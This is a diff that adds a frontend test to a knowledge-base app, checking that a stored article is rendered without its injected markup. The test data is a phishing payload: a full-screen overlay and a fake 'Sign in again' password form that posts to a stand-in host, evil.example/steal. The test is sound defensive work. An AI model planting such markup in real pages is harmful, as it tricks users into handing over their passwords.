@@ -51,6 +51,29 @@ describe('the knowledge base', () => {
     expect(window.kbPwned).toBeUndefined();
   });
 
+  it('shows a stored article without its full-screen style overlay or its fake sign-in form', async () => {
+    await fetch('/faq/data/question', {
+      method: 'POST',
+      body: JSON.stringify({
+        category: 'analytics',
+        question: 'what-counts-as-a-view',
+        content:
+          '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has ended.</p>' +
+          '<form action="https://evil.example/steal" aria-label="Sign in again"><label>Password <input type="password"></label><button>Sign in</button></form>' +
+          '<p><a href="https://example.com/views" target="_top">How views are counted</a></p>',
+      }),
+    });
+    await renderPages('/pages/knowledge-base/analytics/what-counts-as-a-view');
+    const article = await screen.findByRole('article', { name: 'What counts as a view?' }, slow);
+    expect(within(article).getByText('Your session has ended.')).not.toHaveAttribute('style');
+    expect(within(article).queryByRole('form')).not.toBeInTheDocument();
+    expect(within(article).queryByLabelText(/Password/)).not.toBeInTheDocument();
+    expect(within(article).queryByRole('button', { name: 'Sign in' })).not.toBeInTheDocument();
+    const link = within(article).getByRole('link', { name: 'How views are counted' });
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(link).not.toHaveAttribute('target');
+  });
+
   it.each(['/pages/knowledge-base/boats', '/pages/knowledge-base/analytics/no-such-question'])('shows the not-found page with the way back for %s', async (path) => {
     await renderPages(path);
     expect(await screen.findByRole('heading', { level: 1, name: 'Page not found' }, slow)).toBeInTheDocument();
